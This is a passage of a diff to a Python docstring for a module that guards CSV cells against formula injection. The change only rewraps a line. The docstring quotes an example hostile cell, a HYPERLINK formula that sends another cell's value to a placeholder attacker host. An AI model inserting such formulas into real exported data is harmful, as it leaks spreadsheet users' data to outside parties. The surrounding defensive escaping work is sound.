@@ -1,4 +1,5 @@
-"""Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula gets a leading quote, and reading undoes it.
+"""Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula gets a leading quote, and reading undoes
+it.
 
 A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
 LibreOffice and Google Sheets, so a title such as ``=HYPERLINK("http://evil.example/?x="&A1,"x")``
